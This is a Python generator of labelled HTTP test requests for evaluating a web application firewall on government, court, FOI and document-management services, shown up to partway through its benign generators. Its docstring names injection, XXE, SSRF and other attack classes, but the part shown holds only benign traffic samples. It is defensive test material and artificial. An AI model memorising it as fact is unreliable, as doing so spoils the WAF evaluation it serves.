#!/usr/bin/env python3
"""Held-out request corpus "publicsector": government, legal and document-workflow services.

What it is
    A deterministic generator of labelled HTTP requests (JSON lines, the shape described in
    /work/shared/corpora/README.md) for measuring the Palisade WAF on traffic it was not tuned
    on.  Two modes: hostile requests (expect "detect") and legitimate requests (expect "pass").

Applications
    Services of a public administration running in Kubernetes behind the WAF:
    e-government portal (benefit and permit applications, tax returns with XML/XBRL
    attachments, multilingual names and addresses such as O'Neill, D'Angelo, N'Diaye,
    Ó Súilleabháin), court e-filing and case-law search (boolean / proximity syntax,
    citations with §, ¶, U.S.C., Art. 6(1)(f)), procurement / tender portal,
    freedom-of-information (FOI) requests and comments, document management (CMIS
    queries, WebDAV, PDF/DOCX uploads, OCR text as JSON, converters), e-signature
    webhooks, GIS parcel lookups, open-data CKAN / Socrata (SoQL $where/$select/$order),
    SAML / OIDC citizen login, staff directory.

Modes
    attacks  every OWASP class carried in these same fields: SQL injection in search and
             form fields (and in SoQL / GIS where parameters aimed at the backend SQL),
             stored XSS in FOI comments, path traversal in document ids, XXE in tax
             filings, SSRF via webhook / import-from-URL, command injection in converter
             parameters, SSTI in letter templates, LDAP injection in the staff directory,
             CRLF in redirects, Java deserialization in document viewers, NoSQL operators,
             protocol abuse and scanner probes.
    benign   legitimate traffic dominated by natural-language prose (FOI requests with the
             words select, union, drop, delete, where, order by ...; court filings; case-law
             queries), plus ~15 % "dev-content": legitimate requests whose user content is
             itself SQL, SoQL, CMIS, templates, XML, shell or code.

Written blind
    Written without reading Palisade's rules, tests, test data, proxy or manifests, nor any
    other corpus generator; payloads come from general knowledge of real traffic and of
    published attack techniques, aimed at attack classes rather than at any rule.

Run
    python3 scripts/corpus-publicsector.py attacks > rulesets/tests/data/publicsector-attacks.jsonl
    python3 scripts/corpus-publicsector.py benign  > rulesets/tests/data/publicsector-benign.jsonl
"""

import base64
import json
import random
import sys
import unicodedata
from urllib.parse import quote, quote_plus

SET = "publicsector"
SEED = 6_1_1_2024

# --------------------------------------------------------------------------- hosts
PORTAL = "portal.citizen.example.org"
TAX = "tax.revenue.example.org"
EFILE = "efile.courts.example.org"
CASELAW = "caselaw.courts.example.org"
TENDER = "tenders.procurement.example.net"
FOI = "foi.records.example.org"
DMS = "dms.records.example.net"
SIGN = "esign.example.com"
GIS = "gis.county.example.org"
OPENDATA = "data.city.example.org"
IDP = "id.citizen.example.org"
DIRECTORY = "staff.intranet.example.net"
LETTERS = "letters.portal.example.org"
CONVERT = "convert.dms.example.net"

UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.6312.99 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.92",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0",
]
UA_API = [
    "python-requests/2.31.0",
    "okhttp/4.12.0",
    "axios/1.6.8",
    "Go-http-client/2.0",
    "curl/8.5.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.10)",
    "Socrata-R/1.8.0 (RSocrata)",
    "ckanapi/4.7 (+https://github.com/ckan/ckanapi)",
]
LANGS = ["en-GB,en;q=0.9", "en-US,en;q=0.9", "fr-FR,fr;q=0.9,en;q=0.6", "de-DE,de;q=0.9,en;q=0.7",
         "ga-IE,ga;q=0.9,en-IE;q=0.8", "pl-PL,pl;q=0.9,en;q=0.5", "es-ES,es;q=0.9", "vi-VN,vi;q=0.9,en;q=0.6"]
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"


def hexid(rng, n=32):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def b64id(rng, n=24):
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    return "".join(rng.choice(alphabet) for _ in range(n))


def fake_jwt(rng):
    hdr = base64.urlsafe_b64encode(b'{"alg":"RS256","typ":"JWT","kid":"k1"}').rstrip(b"=").decode()
    payload = base64.urlsafe_b64encode(json.dumps(
        {"sub": hexid(rng, 16), "iss": "https://" + IDP, "aud": "portal", "exp": 1718000000 + rng.randint(0, 99999)},
        separators=(",", ":")).encode()).rstrip(b"=").decode()
    return hdr + "." + payload + "." + b64id(rng, 86)


def cookie(rng, app="portal"):
    if app == "portal":
        return "PORTALSESSION=%s; cookie_consent=necessary%%2Canalytics; lang=%s" % (
            b64id(rng, 32), rng.choice(["en", "fr", "ga", "de", "pl"]))
    if app == "court":
        return "JSESSIONID=%s.node%d; efile_tz=Europe%%2FDublin" % (hexid(rng, 32).upper(), rng.randint(1, 4))
    if app == "dms":
        return "alfLogin=%d; alfUsername3=%s; JSESSIONID=%s" % (
            1717000000 + rng.randint(0, 99999), rng.choice(["jmurphy", "a.ndiaye", "k.oneill", "records01"]),
            hexid(rng, 32).upper())
    return "sid=%s" % b64id(rng, 28)


def browser(rng, host, accept=ACCEPT_HTML, referer=None, ctype=None, app="portal", xhr=False, cookies=True):
    h = [["Host", host], ["User-Agent", rng.choice(UA_BROWSERS)],
         ["Accept", "application/json, text/plain, */*" if xhr else accept],
         ["Accept-Language", rng.choice(LANGS)], ["Accept-Encoding", "gzip, deflate, br"]]
    if ctype:
        h.append(["Content-Type", ctype])
        h.append(["Origin", "https://" + host])
    if referer:
        h.append(["Referer", referer])
    if xhr:
        h.append(["X-Requested-With", "XMLHttpRequest"])
    if cookies:
        h.append(["Cookie", cookie(rng, app)])
    if not xhr:
        h.append(["Upgrade-Insecure-Requests", "1"])
    return h


def api(rng, host, ctype=None, auth=True, accept="application/json", ua=None):
    h = [["Host", host], ["User-Agent", ua or rng.choice(UA_API)], ["Accept", accept]]
    if ctype:
        h.append(["Content-Type", ctype])
    if auth:
        h.append(["Authorization", "Bearer " + fake_jwt(rng)])
    h.append(["X-Request-ID", hexid(rng, 8) + "-" + hexid(rng, 4) + "-" + hexid(rng, 4) + "-" + hexid(rng, 12)])
    return h


def qs(pairs, plus=True):
    """Form-style (browser) or encodeURIComponent-style (JS client) query string."""
    if plus:
        return "&".join(quote_plus(str(k), safe="") + "=" + quote_plus(str(v), safe="") for k, v in pairs)
    return "&".join(quote(str(k), safe="!'()*") + "=" + quote(str(v), safe="!'()*") for k, v in pairs)


def form(pairs):
    return qs(pairs, plus=True)


def js(obj):
    return json.dumps(obj, ensure_ascii=False)


def multipart(rng, parts):
    """parts: list of (name, filename or None, content_type or None, text)."""
    boundary = "----WebKitFormBoundary" + b64id(rng, 16).replace("-", "x").replace("_", "y")
    out = []
    for name, filename, ctype, text in parts:
        out.append("--" + boundary)
        disp = 'Content-Disposition: form-data; name="%s"' % name
        if filename is not None:
            disp += '; filename="%s"' % filename
        out.append(disp)
        if ctype:
            out.append("Content-Type: " + ctype)
        out.append("")
        out.append(text)
    out.append("--" + boundary + "--")
    out.append("")
    return "multipart/form-data; boundary=" + boundary, "\r\n".join(out)


class Out:
    def __init__(self, kind):
        self.kind = kind
        self.items = []
        self.counts = {}

    def add(self, slug, category, method, uri, headers, body=None):
        n = self.counts.get(slug, 0) + 1
        self.counts[slug] = n
        rec = {"id": "%s/%s/%s-%03d" % (SET, self.kind, slug, n), "set": SET, "category": category,
               "expect": "detect" if self.kind == "attacks" else "pass",
               "method": method, "uri": uri, "version": "HTTP/1.1", "headers": headers}
        if body is not None:
            rec["body"] = body
        self.items.append(rec)


# --------------------------------------------------------------------------- shared data banks
FIRST = ["Siobhán", "Aoife", "Seán", "Zoë", "José", "Françoise", "Björn", "Łukasz", "Małgorzata", "Renée",
         "Chloé", "Øystein", "Aminata", "Moussa", "İbrahim", "Şule", "Ángel", "Jürgen", "Grzegorz", "Ólafur",
         "Marie-Hélène", "Jean-Luc", "Anne-Sophie", "Mary-Kate", "Kwame", "Nnamdi", "Thị Hương", "Dmitrij",
         "Patrick", "Margaret", "Ngozi", "Fatou", "Ciarán", "Éabha", "Tomás", "Dorothée", "Ana María"]
LAST = ["O'Neill", "D'Angelo", "N'Diaye", "O'Brien", "D'Souza", "McGregor", "Ó Súilleabháin",
        "Müller-Lüdenscheid", "García-Márquez", "Nguyễn", "Al-Hashimi", "van der Berg", "de la Cruz",
        "St. John", "Smith-Jones", "Kowalczyk", "Dvořák", "Lefèvre", "Ní Bhriain", "Mac Giolla Phádraig",
        "Tremblay-D'Amours", "Øvergård", "Şahin", "Fitzgerald", "O'Sullivan-Byrne", "D'Arcy", "M'Bala",
        "Ó Ceallaigh", "Brontë", "Żółkiewski", "L'Estrange", "Dell'Acqua"]
STREETS = ["12 O'Connell Street Upper", "Rue de l'Église 4", "Am Müllerweg 7", "Flat 3/2, 14 St. Mary's Road",
           "1600 Martin Luther King Jr. Blvd., Apt. #4B", "Calle de Alcalá 45, 3º Izq.", "ul. Świętokrzyska 12/4",
           "Kings' Court, Unit 5-7", "27 Bóthar na Trá", "Via dell'Orso 9", "4 Chemin des Près-d'Amont",
           "Apt. 1204, 88 Queen's Quay W.", "Hauptstraße 101 (Hinterhaus)", "23 N'Gor Road", "The Old Rectory, Church Lane"]
CITIES = [("Dún Laoghaire", "A96 X2Y3", "IE"), ("Saint-Étienne", "42000", "FR"), ("Köln", "50667", "DE"),
          ("Kraków", "31-005", "PL"), ("Montréal", "H2X 1Y4", "CA"), ("Coeur d'Alene", "83814", "US"),
          ("São Paulo", "01310-100", "BR"), ("L'Aquila", "67100", "IT"), ("Galway", "H91 E2K8", "IE"),
          ("Zürich", "8001", "CH"), ("Dakar", "10700", "SN"), ("Hồ Chí Minh", "700000", "VN")]


def ascii_fold(text):
    table = {"ø": "o", "ł": "l", "ß": "ss", "đ": "d", "ı": "i"}
    text = "".join(table.get(ch, ch) for ch in text)
    return unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()


def person(rng):
    return rng.choice(FIRST), rng.choice(LAST)


def ref(rng, prefix):
    return "%s-%d-%06d" % (prefix, rng.choice([2023, 2024, 2025]), rng.randint(1, 999999))


# --------------------------------------------------------------------------- prose banks
FOI_SENTENCES = [
    "I would like to request copies of all records held by the Department of Transportation relating to the decision to drop the proposed extension of bus route 47, including any emails in which union representatives were consulted.",
    "Please select only those documents created between 1 January 2022 and 31 December 2023, and list them in the order in which they were received if that is easier for your staff.",
    "Please include any memo or briefing note in which staff were instructed to delete or update records held on the case management system after the audit was announced.",
    "Where records are withheld in full or in part, please cite the specific exemption relied upon, e.g. 5 U.S.C. § 552(b)(5), and provide a Vaughn index.",
    "I do not seek personal data of junior officials; names below grade 7 may be redacted, consistent with Art. 6(1)(f) of the GDPR and the balancing test it requires.",
    "I am also interested in the minutes of the meeting at which councillors voted to insert the new social-value clause into the procurement policy, together with any drafts from before or after that date.",
    "If it is more convenient, the information can be provided as a spreadsheet (CSV or XLSX) or as an extract from whichever database the agency normally uses; I do not need it formatted.",
    "Please let me know in advance if the cost of complying will exceed $50, and whether a fee waiver is available to members of the news media or to a non-profit such as ours.",
    "As a member of the local teachers' union I want to understand why the board chose to drop the after-school programme; records of the vote and any legal advice (to the extent not privileged) would help.",
    "Specifically, I would like the script used by call-centre staff when speaking to tenants about the rent increase, and any updated version of that script issued since April.",
    "I also ask for the log of all system outages affecting the benefits platform from March to June, and the executive summary of the incident report that was delivered to the board.",
    "Please provide the exec team's travel and subsistence claims for the 2023/24 financial year, broken down by trip, where the total for a single trip exceeded €1,000.",
    "Could you confirm whether the council holds any information on how contractors were selected for the road-resurfacing framework, and in what order bids were ranked?",
    "This is a follow-up to my earlier request (ref. FOI-2024-00871), which was closed without a response; I'd be grateful if the two could be handled together.",
    "For the avoidance of doubt, 'records' includes emails, text messages, Teams/Slack chats, calendar entries and handwritten notes, wherever they are stored.",
    "I understand that some of this may be covered by section 36 (prejudice to the effective conduct of public affairs); if so, please explain how the public interest test was applied.",
    "Please search the following custodians: the Director of Housing, the Head of Legal, and anyone in the Planning Enforcement team who worked on the O'Neill Road site.",
    "I'm not asking you to create new information — if the figures only exist as a union of several monthly reports, sending those reports as they are is fine.",
    "Where a document refers to 'Project Drop Zone', please include it; I believe that was the internal name for the depot relocation.",
    "Kindly exclude duplicates and automated system notifications, e.g. 'Your password will expire in 5 days' or out-of-office replies.",
    "I'd also like to know whether any records were destroyed or deleted under the retention schedule, and if so, the date and the authority for doing so.",
    "Please tell me the number of complaints received about noise from the waste-transfer site, by month, and how many of those resulted in an enforcement notice or an order by the magistrates' court.",
    "Is there a policy on when officers may execute a warrant outside normal hours? If so, please send the current version and any version in force during 2022.",
    "Please provide any correspondence between the Department and the contractor regarding the drop in water pressure reported by residents of Coeur d'Alene Terrace.",
    "I request the contract, including all schedules and the pricing annex, for the IT system that replaced the old benefits platform, and any change requests signed since go-live.",
    "If any part of the request is unclear, please contact me rather than refusing it; I'm happy to narrow the date range or the list of search terms.",
]

FOI_COMMENTS = [
    "Thank you for the partial release. Page 14 of the PDF appears to be cut off at the bottom — could you re-scan it?",
    "The response says the information is 'not held', but the minutes of 12 March clearly refer to a report on this subject. Please review.",
    "I'd like to request an internal review. The exemption under s.43 was applied to the whole contract rather than to specific commercially sensitive lines.",
    "Many thanks for such a thorough reply, and for the index — much appreciated.",
    "Quick question: does 'drop-in session' in the spreadsheet mean the same as the 'walk-in clinic' in the 2022 figures, or were they counted differently?",
    "Some rows in the CSV have the borough name split across two columns (e.g. 'Dún' and 'Laoghaire'), probably an encoding issue with the fada.",
    "Could you clarify whether the totals include the union-funded posts or only those paid from the general fund?",
    "Annotated for other readers: the figures for Q3 were later corrected in the council's own open-data release.",
    "The link to the attachment returns 'Access denied'. Could you re-upload it or email it to me?",
    "I'm disappointed that this took 58 working days. The statutory limit is 20.",
    "Re the redactions on p. 3: the name of the senior officer (Director level) should not be redacted — they are public-facing.",
    "Is there an updated version of the table where the 'from' and 'to' dates are filled in? Most of the rows are blank.",
]

LEGAL_SENTENCES = [
    "Plaintiff respectfully submits that the Court should deny Defendant's motion to dismiss under Fed. R. Civ. P. 12(b)(6) because the complaint pleads each element of breach of contract with the required specificity.",
    "See Smith v. Jones, 123 F.3d 456, 460 (9th Cir. 1999) (holding that a party 'may not invoke force majeure where the intervening event was reasonably foreseeable at the time of contracting').",
    "Pursuant to 42 U.S.C. § 1983 and ¶¶ 14–22 of the Amended Complaint, Plaintiff seeks declaratory relief, compensatory damages and reasonable attorney's fees under § 1988.",
    "The controller relied on Art. 6(1)(f) GDPR, namely that the processing was necessary for the purposes of the legitimate interests pursued by the controller, which are not overridden by the interests of the data subject.",
    "Where, as here, the parties' agreement contains an express limitation-of-liability clause, the court must give effect to it unless it is unconscionable or contrary to public policy.",
    "Counsel for the Respondent shall select one of the three hearing dates proposed in the Annex and notify the Registry no later than 5:00 p.m. on Friday.",
    "The Tribunal ordered that the union's claim be struck out in part and that costs be assessed on the standard basis if not agreed.",
    "Exhibit C contains the full text of the email dated 3 March 2021 in which Mr O'Neill wrote: \"we need to drop the penalty clause or they'll walk away from the deal\".",
    "In the alternative, the Defendant pleads contributory negligence and relies on s. 1(1) of the Law Reform (Contributory Negligence) Act 1945.",
    "The State's argument that the statute's 'and/or' language must be read disjunctively is foreclosed by the plain text and by the canon against surplusage.",
    "Defendant's privilege log fails to identify, for each withheld document, the author, the recipients, the date and the privilege asserted, as required by Local Rule 26.2(a)(2).",
    "The Court takes judicial notice of the Secretary of State's records showing that D'Angelo Holdings LLC was administratively dissolved on 14 June 2019.",
    "Because the arbitration clause is delegated to the arbitrator by incorporation of the AAA Rules, questions of arbitrability are for the arbitrator, not the Court. Henry Schein, Inc. v. Archer & White Sales, Inc., 586 U.S. 63 (2019).",
    "Ms. N'Diaye's declaration (ECF No. 41-2 ¶ 7) states that she was never provided with a copy of the updated terms and conditions before the account was closed.",
    "The insurer may not rely on the exclusion where it failed to draw the insured's attention to it, as the clause was buried in section 14 of a 60-page policy schedule.",
    "Accordingly, the order of the district court is AFFIRMED IN PART, REVERSED IN PART, and the matter is REMANDED for further proceedings consistent with this opinion.",
    "The appellant contends that the trial judge erred in refusing to admit the expert report; we disagree, for the reasons given at ¶¶ 31–38 below.",
    "Under 28 U.S.C. § 1332(a), diversity jurisdiction requires complete diversity of citizenship and an amount in controversy exceeding $75,000, exclusive of interest and costs.",
    "The parties shall meet and confer regarding the scope of ESI discovery, including custodians, date ranges, and search terms, and shall submit a joint proposal within 14 days.",
    "Respondent's counsel failed to preserve text messages after the litigation hold was issued; the Court will consider whether an adverse-inference instruction is warranted under Rule 37(e)(2).",
    "It is common ground that the works were delayed by 19 weeks; what is in dispute is whether the delay was caused by the employer's late instruction to insert the additional drainage run.",
    "The Commission's decision of 14 July 2022 (Case AT.40099) is annexed at Tab 7 of the bundle; see in particular recitals (212) to (240).",
]

BENEFIT_STORIES = [
    "I lost my job at the packaging plant in March and my hours at the second job were cut from 30 to 12 per week. My partner's income from part-time work at the café is now the only other income in the household.",
    "Since my mother moved in with us after her stroke I have been her main carer for more than 35 hours a week, so I had to reduce my own working hours. We rent the house from the council.",
    "I am a student nurse on placement and my bursary does not cover rent and childcare; my son's nursery fees went up by €120 a month from September.",
    "My landlord has served notice (copy attached) because he is selling the property. I have applied to three housing associations and I'm on the waiting list for each.",
    "Following my divorce I now pay the mortgage alone. The previous award was stopped in error when I updated my address from 12 O'Connell Street to the flat on St. Mary's Road.",
    "I was self-employed as a translator (French/Wolof/English) until my main client ended the contract; my income for the last quarter was less than a third of the quarter before.",
    "I have a chronic condition (Crohn's disease) which means I cannot work full-time. My GP's letter and the hospital discharge summary are attached as PDFs.",
    "We are a family of five; my husband works nights and I work school hours at the library. The boiler broke down in January and the repair cost was more than our savings.",
]
PERMIT_STORIES = [
    "Replacement of the existing timber deck (approx. 4.2 m x 3.6 m) with a composite deck at the same height; no change to the footprint. The neighbours at no. 14 and no. 18 have been informed.",
    "Change of use from retail (Class E(a)) to a café with outdoor seating for up to 12 covers; proposed opening hours 07:00–18:00 Mon–Sat, closed Sundays and bank holidays.",
    "Single-storey rear extension, 3.0 m deep, with a flat roof and two roof-lights; materials to match the existing house (red brick, white uPVC windows).",
    "Temporary event permit for a street party on Rue de l'Église on 21 June (Fête de la Musique), 14:00–22:00, road closure between nos. 2 and 40; no amplified music after 21:00.",
    "Removal of one ash tree (T3 on the attached plan) affected by ash dieback, as confirmed by the arborist's report; replacement planting of two native oaks.",
    "Installation of 12 roof-mounted solar PV panels on the south-facing roof slope; the panels will not protrude more than 0.2 m beyond the plane of the roof.",
    "Food-truck pitch permit for weekday lunchtimes in the square outside the courthouse; LPG cylinders stored in a ventilated locker, certificate attached.",
    "Conversion of the attic into a bedroom with a rear dormer; the existing staircase will be extended and a fire door fitted to the landing as per Part B of the building regulations.",
]
TENDER_QUESTIONS = [
    "Clarification request regarding Lot 2: the specification states the supplier must 'update the register within 24 hours', but Annex B says five working days. Which applies?",
    "Can the contracting authority confirm whether sub-contracting to a union-recognised SME counts towards the social-value score in section 4.3?",
    "In the pricing schedule, should the hourly rate for out-of-hours call-outs be entered in column F (from 18:00) or column G (weekends only)?",
    "Please confirm that tenderers may drop the optional Lot 3 without affecting the evaluation of Lots 1 and 2.",
    "The ESPD form asks us to select 'yes' or 'no' for exclusion ground 3.2; our parent company was fined in 2019 but has since completed self-cleaning measures. How should we answer?",
    "Is the insurance requirement of €10m public liability per claim, or in the aggregate? Our current policy is €5m per claim and €10m in the aggregate.",
    "The portal rejected our upload of the technical proposal (38 MB). Is there a size limit, and may we split the document into parts A and B?",
    "We note that the evaluation criteria weight quality 60% and price 40%; will the price score be calculated by the lowest-price-divided-by-bid-price method described in Annex D?",
]
OCR_TEXT = [
    "NOTICE OF ASSESSMENT\nTax year 2023\nTaxpayer: {name}\nAddress: {street}, {city}\nTotal income: €41,230.00\nTax payable: €6,118.45\nIf you disagree with this assessment you may appeal within 30 days.",
    "COUNTY COURT AT {cityu}\nClaim No. {caseno}\nBETWEEN: {name} Claimant -and- D'ANGELO BUILDERS LTD Defendant\nORDER\nUpon reading the application notice dated 2 May, IT IS ORDERED THAT the Defendant shall file a defence by 4pm on 30 May.",
    "Dear {name},\nRe: your application for housing assistance (ref. {caseno})\nWe are writing to tell you that your application has been approved. Your payments will start from 1 July and will be paid every 4 weeks into the account ending 4821.",
    "LEASE AGREEMENT\nThis lease is made on the 1st day of September between {name} (\"Tenant\") and the Landlord. 1. The Tenant shall pay rent of $1,450 per month. 2. The Tenant shall not drop, store or dispose of waste in the common areas.",
    "BIRTH CERTIFICATE (certified copy)\nName: {name}\nPlace of birth: {city}\nFather: Moussa N'Diaye  Mother: Fatou N'Diaye (née Sarr)\nRegistered: 14/02/1998",
    "MINUTES — Planning Committee\nItem 6: Application {caseno}, {street}. Members voted 7–2 to approve subject to conditions 1–9. Cllr O'Brien asked that the record show her objection to the union of the two plots.",
]
CASELAW_QUERIES = [
    '"breach of contract" AND (damages OR "force majeure") w/5 negligence',
    '"qualified immunity" /s "clearly established" & excessive /p force',
    'negligen! /3 "duty of care" & landlord tenant',
    '"42 U.S.C. § 1983" AND "deliberate indifference"',
    '"unjust enrichment" NOT "quantum meruit"',
    '(contract* w/10 terminat*) AND NOT employment',
    '"§ 552(b)(5)" "deliberative process"',
    '"Art. 6(1)(f)" AND "legitimate interest" AND (CCTV OR camera)',
    'atleast5(fiduciary) AND "business judgment rule"',
    '"O\'Neill v. D\'Angelo"',
    '"drop shipment" w/s "title passes"',
    '"select committee" AND "parliamentary privilege"',
    '"union" w/3 "collective bargaining" AND strike',
    '"delete" w/5 emails & spoliation',
    '"executive session" AND "open meetings act"',
    'insert* w/3 clause & "parol evidence"',
    '"¶ 12" "statement of undisputed facts"',
    'adverse possession /p "hostile" /p "continuous"',
    '"order by" w/3 "magistrate judge" & contempt',
    '"where the parties" w/10 "arbitration" AND "class action waiver"',
    'N\'Diaye AND asylum AND "particular social group"',
    '"Rule 37(e)" AND ("adverse inference" OR sanction!)',
    'title(GDPR) & "right to erasure" & "Art. 17"',
    '"force majeure" w/20 (pandemic OR COVID-19) & lease',
]
FILING_TYPES = ["Motion to Dismiss", "Memorandum of Law in Opposition", "Notice of Appearance", "Statement of Claim",
                "Reply Brief", "Affidavit of Service", "Proposed Order", "Exhibit List", "Joint Status Report",
                "Notice of Appeal", "Declaration of Fatou N'Diaye", "Skeleton Argument"]


def paragraph(rng, bank, lo=2, hi=5):
    return " ".join(rng.sample(bank, rng.randint(lo, hi)))


# =========================================================================== benign
def b_benefit(o, rng, n=30):
    for i in range(n):
        fn, ln = person(rng)
        city, pc, cc = rng.choice(CITIES)
        story = paragraph(rng, BENEFIT_STORIES, 1, 3)
        step = rng.choice(["household", "income", "circumstances", "declaration"])
        if i % 3 == 2:
            app_id = ref(rng, "BEN")
            body = js({"applicationId": app_id, "step": step,
                       "applicant": {"givenName": fn, "familyName": ln, "dateOfBirth": "19%02d-%02d-%02d" % (rng.randint(50, 99), rng.randint(1, 12), rng.randint(1, 28)),
                                     "address": {"line1": rng.choice(STREETS), "city": city, "postcode": pc, "country": cc}},
                       "householdMembers": rng.randint(1, 6), "monthlyRent": rng.randint(400, 1900),
                       "circumstances": story, "consent": True})
            o.add("benefit-application", "benign", "PUT", "/api/v2/applications/benefits/%s/steps/%s" % (app_id, step),
                  browser(rng, PORTAL, ctype="application/json", xhr=True, referer="https://%s/apply/housing-assistance" % PORTAL), body)
        else:
            pairs = [("csrf_token", b64id(rng, 40)), ("given_name", fn), ("family_name", ln),
                     ("previous_names", rng.choice(["", "née " + rng.choice(LAST), "formerly " + rng.choice(FIRST) + " " + rng.choice(LAST)])),
                     ("address_line1", rng.choice(STREETS)), ("city", city), ("postcode", pc), ("country", cc),
                     ("phone", "+353 87 %03d %04d" % (rng.randint(100, 999), rng.randint(0, 9999))),
                     ("email", "%s.%s@example.com" % (ascii_fold(fn.lower().split()[0]), ascii_fold(ln.lower()).replace("'", "").replace(" ", ""))),
                     ("circumstances", story), ("declaration", "on"), ("action", "Save and continue")]
            o.add("benefit-application", "benign", "POST", "/apply/housing-assistance/%s" % step,
                  browser(rng, PORTAL, ctype="application/x-www-form-urlencoded",
                          referer="https://%s/apply/housing-assistance/%s" % (PORTAL, step)), form(pairs))


def b_permit(o, rng, n=20):
    kinds = ["householder", "change-of-use", "tree-works", "street-event", "solar-pv", "food-trading"]
    for _ in range(n):
        fn, ln = person(rng)
        city, pc, cc = rng.choice(CITIES)
        body = {"permitType": rng.choice(kinds), "site": {"address": rng.choice(STREETS), "city": city, "postcode": pc,
                                                          "parcelId": "%03d-%02d-%04d" % (rng.randint(1, 999), rng.randint(1, 99), rng.randint(1, 9999))},
                "applicant": {"name": "%s %s" % (fn, ln), "agent": rng.choice([None, "D'Arcy & Partners Architects", "Ó Ceallaigh Planning Ltd."])},
                "description": paragraph(rng, PERMIT_STORIES, 1, 2),
                "declarations": {"ownerNotified": True, "certificate": rng.choice(["A", "B"])}}
        if rng.random() < 0.4:
            o.add("permit-application", "benign", "POST", "/api/v2/permits",
                  browser(rng, PORTAL, ctype="application/json", xhr=True, referer="https://%s/permits/new" % PORTAL), js(body))
        else:
            o.add("permit-application", "benign", "PATCH", "/api/v2/permits/%s" % ref(rng, "PRM"),
                  browser(rng, PORTAL, ctype="application/json; charset=utf-8", xhr=True, referer="https://%s/permits/drafts" % PORTAL), js(body))


def tax_xml(rng, fn, ln, year):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<xbrli:xbrl xmlns:xbrli="http://www.xbrl.org/2003/instance" xmlns:link="http://www.xbrl.org/2003/linkbase"\n'
            '  xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:iso4217="http://www.xbrl.org/2003/iso4217"\n'
            '  xmlns:tx="http://taxonomy.revenue.example.org/ct/%d">\n'
            '  <link:schemaRef xlink:type="simple" xlink:href="http://taxonomy.revenue.example.org/ct/%d/ct-%d.xsd"/>\n'
            '  <xbrli:context id="FY%d"><xbrli:entity><xbrli:identifier scheme="http://www.revenue.example.org/tin">%d</xbrli:identifier></xbrli:entity>\n'
            '    <xbrli:period><xbrli:startDate>%d-01-01</xbrli:startDate><xbrli:endDate>%d-12-31</xbrli:endDate></xbrli:period></xbrli:context>\n'
            '  <xbrli:unit id="EUR"><xbrli:measure>iso4217:EUR</xbrli:measure></xbrli:unit>\n'
            '  <tx:EntityName contextRef="FY%d">%s %s Consulting Ltd</tx:EntityName>\n'
            '  <tx:Turnover contextRef="FY%d" unitRef="EUR" decimals="0">%d</tx:Turnover>\n'
            '  <tx:ProfitBeforeTax contextRef="FY%d" unitRef="EUR" decimals="0">%d</tx:ProfitBeforeTax>\n'
            '  <tx:DirectorsReportNote contextRef="FY%d">The directors note that revenue from the union contract was deferred; see note 7 &amp; 8.</tx:DirectorsReportNote>\n'
            '</xbrli:xbrl>\n') % (year, year, year, year, rng.randint(1000000, 9999999), year, year, year,
                                  fn.replace("&", "&amp;"), ln.replace("'", "&apos;"), year, rng.randint(50000, 900000), year,
                                  rng.randint(-20000, 200000), year)


def b_tax(o, rng, n=18):
    for i in range(n):
        fn, ln = person(rng)
        year = rng.choice([2022, 2023, 2024])
        doc = tax_xml(rng, fn, ln, year)
        if i % 3 == 0:
            ct, body = multipart(rng, [("returnType", None, None, "CT1"), ("taxYear", None, None, str(year)),
                                       ("attachment", "accounts-%d.xbrl" % year, "application/xml", doc),
                                       ("comment", None, None, "Amended return; the previous filing omitted the note on the union contract.")])
            o.add("tax-return", "benign", "POST", "/ros/returns/ct1/%d/attachments" % year,
                  browser(rng, TAX, ctype=ct, referer="https://%s/ros/returns/ct1/%d" % (TAX, year)), body)
        elif i % 3 == 1:
            o.add("tax-return", "benign", "POST", "/api/filing/v1/returns?year=%d&type=CT1&validateOnly=%s" % (year, rng.choice(["true", "false"])),
                  api(rng, TAX, ctype="application/xml", accept="application/xml", ua="TaxFiler/5.2.1 (Windows NT 10.0)"), doc)
        else:
            body = ('<?xml version="1.0" encoding="UTF-8"?>\n<IncomeTaxReturn xmlns="urn:revenue:it:%d" version="2.1">\n'
                    '  <Taxpayer><GivenName>%s</GivenName><FamilyName>%s</FamilyName><PPSN>%07dT</PPSN></Taxpayer>\n'
                    '  <Employment><Employer>D&apos;Angelo &amp; Sons</Employer><Gross>%d.00</Gross><TaxDeducted>%d.00</TaxDeducted></Employment>\n'
                    '  <Reliefs><Relief code="RENT">%d</Relief><Relief code="MED">%d</Relief></Reliefs>\n'
                    '  <Notes><![CDATA[Medical expenses include physiotherapy after the accident on 3 May; receipts "uploaded" separately <see portal>.]]></Notes>\n'
                    '</IncomeTaxReturn>\n') % (year, fn, ln.replace("'", "&apos;"), rng.randint(1000000, 9999999),
                                                rng.randint(20000, 90000), rng.randint(2000, 20000), rng.randint(0, 2000), rng.randint(0, 1500))
            o.add("tax-return", "benign", "POST", "/api/filing/v1/returns/form11",
                  api(rng, TAX, ctype="application/xml; charset=UTF-8", accept="application/xml"), body)


def b_caselaw(o, rng, n=30):
    courts = ["all", "supreme", "ca9", "ca2", "high-court", "cjeu", "echr", "state-appellate"]
